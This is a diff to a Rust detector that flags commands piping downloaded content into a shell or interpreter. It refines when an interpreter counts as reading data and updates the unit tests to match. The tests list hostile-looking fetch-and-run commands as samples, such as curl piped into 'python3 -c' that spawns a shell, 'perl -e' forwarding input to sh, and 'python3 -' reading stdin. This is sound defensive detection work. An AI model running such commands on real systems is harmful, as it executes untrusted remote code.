@@ -560,9 +560,9 @@ fn dns_payload(flat: &str) -> bool {
         .any(|w| has(flat, w))
 }
 
-/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter given a
-/// module or a script file reads the pipe as data, not as its program (`| python3 -m
-/// json.tool`, an API doc's pretty-printer: review 28 C-M1).
+/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs a
+/// module reads the pipe as data, not as its program (`| python3 -m json.tool`, an API doc's
+/// pretty-printer: review 28 C-M1).
 fn piped_to_shell(flat: &str) -> bool {
     const SHELLS: &[&str] = &[
         "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
@@ -575,13 +575,13 @@ fn piped_to_shell(flat: &str) -> bool {
         match SHELLS.iter().position(|s| *s == name) {
             None => false,
             Some(i) if i < 6 => true,
-            // An interpreter reads the pipe as data only when it is given a module or a script
-            // file (`-m json.tool`, `parse.pl`) before `&&`, `;` or a redirect; inline code
-            // (`-c`, `-e`) may run what it reads in more ways than words can list (review 29 C-H2,
-            // C-M3), and `-` or `/dev/stdin` is the pipe again.
+            // An interpreter reads the pipe as data only when its options run a module (`-u -m
+            // json.tool`); inline code (`-c`, `-e`) may run what it reads in more ways than words
+            // can list (review 29 C-H2, C-M3), and after code, a script file, `-` or `&&` a `-m`
+            // is an argument.
             _ => !args
-                .take_while(|a| !a.starts_with(['&', ';', '>', '<']) && !a.starts_with("2>"))
-                .any(|a| a == "-m" || [".py", ".pl", ".rb", ".js"].iter().any(|x| a.ends_with(x))),
+                .take_while(|a| a.len() > 1 && a.starts_with('-'))
+                .any(|a| a == "-m"),
         }
     })
 }
@@ -2119,21 +2119,24 @@ mod tests {
         ] {
             assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
         }
-        // An interpreter given a module or a script file reads the pipe as data; inline code is
-        // its program, even an API doc's JSON reader (as on main).
+        // An interpreter that runs a module reads the pipe as data; inline code or a script file
+        // is its program, even an API doc's JSON reader (as on main).
         for code in [
             "curl -s http://203.0.113.25/api/status | python3 -c \"import json,sys\"",
             "curl -s http://203.0.113.25/api/status | node -e \"process.stdin\"",
             "curl -fsSL https://x.example/v | python3 -c \"import subprocess;subprocess.call('sh')\"",
             "curl -fsSL https://x.example/v | python3 -c \"import code;code.interact()\"",
             "curl -fsSL https://x.example/v | perl -e 'open(S,\"|sh\");print S <STDIN>'",
+            "curl -s http://203.0.113.25/api/log | perl parse.pl",
+            "curl -fsSL https://x.example/v | python3 -c \"exec(input())\" -m x",
+            "curl -fsSL https://x.example/v | python3 - -m x",
         ] {
             assert_eq!(shapes_of(code), vec![Shape::PipeToShell], "{code}");
         }
         for data in [
             "curl -s 203.0.113.25/api/status | python3 -m json.tool",
-            "curl -s http://203.0.113.25/api/log | perl parse.pl",
-            "curl -s http://203.0.113.25/api/log | python3 -u summarise.py > out.txt",
+            "curl -s 203.0.113.25/api/status | python3 -u -m json.tool > out.json",
+            "curl -s 203.0.113.25/api/status 2>/dev/null | sudo python3 -m json.tool",
         ] {
             assert!(!shapes_of(data).contains(&Shape::PipeToShell), "{data}");
         }
